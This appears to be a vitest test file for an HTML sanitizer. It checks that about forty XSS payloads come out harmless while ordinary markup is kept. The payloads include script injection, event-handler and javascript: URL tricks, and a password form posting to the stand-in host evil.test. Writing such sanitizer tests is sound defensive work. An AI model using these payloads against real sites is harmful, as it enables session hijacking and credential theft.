import { describe, expect, it } from 'vitest'
import { escapeHtml, safeHtml } from './safe-html.ts'

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror = "alert(1)"/>',
  '<img/src="x"/onerror=alert(1)>',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
  '<svg><script>alert(1)</script></svg><svg onload=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object><embed src=x>',
  '<style>@import url(//evil.test/x.css)</style>',
  '<link rel=stylesheet href=//evil.test/x.css><base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="https://evil.test/steal"><input name=password></form>',
  '<form action="//evil.test/steal"></form><form action="/\\evil.test"></form>',
  '<form><button formaction="https://evil.test/">x</button></form>',
  '<input type=image src=x onerror=alert(1)><input type=file>',
  '<div style="background:url(https://evil.test/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:u\\72l(//evil.test)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="a&quot; onclick=&quot;alert(1)">x</p>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)',
  '<video><source onerror=alert(1)></video>',
  '<a href="https://x.test" target="_top" ping="https://evil.test">x</a>',
  '<p>\0<scr\0ipt>alert(1)</script></p>',
]

describe('hostile markup', () => {
  it.each(HOSTILE)('does nothing: %s', (html) => {
    const safe = safeHtml(html)
    // The only angle brackets are those of the elements that were written anew.
    const tags = safe.match(/<[^>]*>/g) ?? []
    for (const tag of tags) {
      expect(tag).toMatch(/^<\/?[a-z0-9]+( [a-z]+="[^"<>]*")*>$/)
      expect(tag.replace(/="[^"]*"/g, '=')).not.toMatch(/ (on[a-z]+|formaction|srcdoc)=/i)
      expect(tag).not.toMatch(/javascript|vbscript|evil\.test|expression/i)
      expect(tag).not.toMatch(
        /^<\/?(script|style|svg|math|iframe|object|embed|link|base|meta|form action)/,
      )
    }
    expect(safe.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/)
  })

  it.each(HOSTILE)('is not changed by a second reading: %s', (html) => {
    const once = safeHtml(html)
    expect(safeHtml(once)).toBe(once)
  })

  it('of great depth and length is read in time', () => {
    const start = performance.now()
    safeHtml('<div>'.repeat(20_000))
    safeHtml('<'.repeat(100_000))
    safeHtml(`<a ${'x='.repeat(50_000)}`)
    safeHtml('<p style="'.repeat(10_000))
    expect(performance.now() - start).toBeLessThan(3000)
  })
})

it('keeps ordinary markup, and closes what was left open', () => {
  expect(
    safeHtml('<h1 class="big">Hi &amp; welcome</h1><p style="color: red">to <b>us<br></p>'),
  ).toBe('<h1 class="big">Hi &#38; welcome</h1><p style="color: red;">to <b>us<br></b></p>')
  expect(
    safeHtml('<form action="/login" method="post"><input type="password" name="p"></form>'),
  ).toBe('<form action="/login" method="post"><input type="password" name="p"></form>')
  expect(safeHtml('<a href="https://x.test/?a=1&b=2">x</a><img src="/logo.png" alt="">')).toBe(
    '<a href="https://x.test/?a=1&#38;b=2" rel="noopener noreferrer nofollow">x</a><img src="/logo.png" alt="">',
  )
})

it('escapes text for elements and attributes alike', () => {
  expect(escapeHtml(`<a b="c" d='e'>&\``)).toBe('&#60;a b=&#34;c&#34; d=&#39;e&#39;&#62;&#38;&#96;')
})
